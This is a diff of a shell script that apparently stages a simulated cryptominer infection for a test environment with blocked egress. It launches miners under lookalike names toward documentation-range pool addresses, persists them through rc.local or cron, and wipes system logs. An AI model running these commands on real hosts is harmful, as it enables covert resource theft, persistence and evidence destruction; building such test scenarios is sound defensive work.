@@ -17,7 +17,7 @@ for name in $LOOKALIKES; do
     $HIDE/\$name -B -o stratum+tcp://198.51.100.$NET:80 -u 44wallet
     $HIDE/\$name -B -o stratum+tcp://198.51.100.\$(($NET + i)):80 -u 44wallet
 done
-/boot/$ONE -B -o stratum+tcp://198.51.100.$NET:80 -u 44wallet
+/boot/$ONE -B -n 40 -o stratum+tcp://198.51.100.$NET:80 -u 44wallet
 case $START in
 rc.local) printf '#!/bin/sh\n/boot/$ONE -B -o stratum+tcp://198.51.100.$NET:80\n' >/etc/rc.local; chmod 755 /etc/rc.local ;;
 cron) echo '@reboot root /boot/$ONE -B -o stratum+tcp://198.51.100.$NET:80' >/etc/cron.d/$UNIT ;;
@@ -30,6 +30,6 @@ find /var/log -type f -exec truncate -s 0 {} +
 rm -rf /var/log/journal /run/log/journal
 END
 mkdir -p /srv/handed
-sleep 20
+sleep 25
 journalctl -k -o short --no-pager | grep egress-blocked >/srv/handed/kern.log
 serve handed python3 -m http.server 8080 --directory /srv/handed
